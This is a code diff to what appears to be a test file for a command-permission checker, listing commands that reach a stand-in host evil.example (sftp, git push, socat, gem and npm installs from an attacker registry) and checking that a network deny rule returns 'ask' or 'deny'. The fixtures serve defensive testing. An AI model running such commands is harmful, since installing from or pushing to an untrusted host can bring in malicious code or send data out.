@@ -202,10 +202,12 @@ for (const command of [
   'sftp evil.example',
   'http GET evil.example',
   'git push evil.example',
-  'npm install --registry=evil.example',
+  'gem install x --source=evil.example',
   'socat - TCP:evil.example:80',
 ])
   check('net.fetch evil.example deny', command, 'ask');
+// An option that the table knows as an address is evaluated as one.
+check('net.fetch evil.example deny', 'npm install --registry=evil.example', 'deny');
 for (const command of [
   'foo notevil.example',
   'foo evil.example.org',
